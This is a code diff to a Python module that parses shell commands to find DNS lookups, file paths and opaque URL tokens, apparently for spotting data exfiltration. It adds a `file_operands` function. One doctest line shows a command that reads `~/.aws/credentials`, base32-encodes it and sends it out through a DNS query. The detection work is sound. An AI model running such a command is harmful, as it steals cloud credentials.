@@ -12,6 +12,7 @@ Contract: pure functions of text, no I/O.
 - :func:`dns_queries` - the names a shell command's DNS lookups (``dig``, ``nslookup``,
   ``host``, ``drill``, ``resolvectl query``) resolve, and whether each is computed by
   the command (``$(…)`` or backticks: its labels hold what the command read).
+- :func:`file_operands` - the file paths a command names (a slash and an extension).
 - :func:`url_payloads` - the opaque query values of a URL (as written, not lower-cased).
 
 >>> dns_queries("dig +short $(cat ~/.aws/credentials | base32).t.stats.io")
@@ -29,7 +30,7 @@ from __future__ import annotations
 import re
 from urllib.parse import parse_qsl, urlsplit
 
-__all__ = ["dns_queries", "opaque_tokens", "url_payloads"]
+__all__ = ["dns_queries", "file_operands", "opaque_tokens", "url_payloads"]
 
 _OPAQUE_RE = re.compile(r"(?<![A-Za-z0-9+_-])[A-Za-z0-9+_-]{16,}={0,2}(?![A-Za-z0-9+_-])")
 _DNS_RE = re.compile(r"(?:^|[\s;&|(`\"'])(?:dig|nslookup|host|drill|resolvectl\s+query)\s+")
@@ -99,3 +100,20 @@ def url_payloads(url: str) -> tuple[str, ...]:
     return tuple(
         t for _, value in parse_qsl(query, keep_blank_values=False) for t in opaque_tokens(value)
     )
+
+
+_FILE_RE = re.compile(
+    r"(?<![\w:/.@-])(?:~|\.{1,2})?/?(?:[\w.@+-]+/)+[\w@+-]+\.[a-z][\w]{0,9}(?![\w/])"
+)
+
+
+def file_operands(low: str) -> tuple[str, ...]:
+    """The file paths (a directory part and an extension) a lower-cased command names,
+    URLs left out; at most 8.
+
+    >>> file_operands("cd infra/edge && terraform state pull > /tmp/edge.tfstate")
+    ('/tmp/edge.tfstate',)
+    >>> file_operands("curl https://h.io/a/b.json -o out/b.json")
+    ('out/b.json',)
+    """
+    return tuple(dict.fromkeys(m.group(0) for m in _FILE_RE.finditer(low)))[:8]
